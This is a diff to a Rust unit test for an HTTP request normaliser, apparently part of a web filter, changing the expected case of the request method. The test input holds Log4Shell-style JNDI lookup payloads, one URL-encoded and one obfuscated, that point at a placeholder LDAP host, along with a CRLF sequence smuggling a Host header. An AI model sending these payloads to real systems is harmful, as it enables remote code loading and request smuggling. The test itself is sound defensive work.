@@ -894,7 +894,7 @@ fn normalise_request_keeps_the_structure() {
     let p = b"GET /?q=%24%7Bjndi%3Aldap%3A%2F%2Fh%7D%0D%0AHost:%20evil HTTP/1.1\r\nHost: Shop.Example\r\nUser-Agent: ${${LOWER:J}ndi:${::-l}dap://h/a}\r\n\r\nx=%41";
     let (n, r) = normalise_request(p);
     let r = r.unwrap();
-    assert_eq!(region(&n, &r.method), b"get");
+    assert_eq!(region(&n, &r.method), b"GET", "the method is kept as sent");
     assert_eq!(region(&n, &r.uri), b"/?q=${jndi:ldap://h}\r\nhost: evil");
     assert_eq!(region(&n, &r.host), b"shop.example");
     assert_eq!(region(&n, &r.header), b"host: shop.example\r\nuser-agent: ${jndi:ldap://h/a}\r\n");
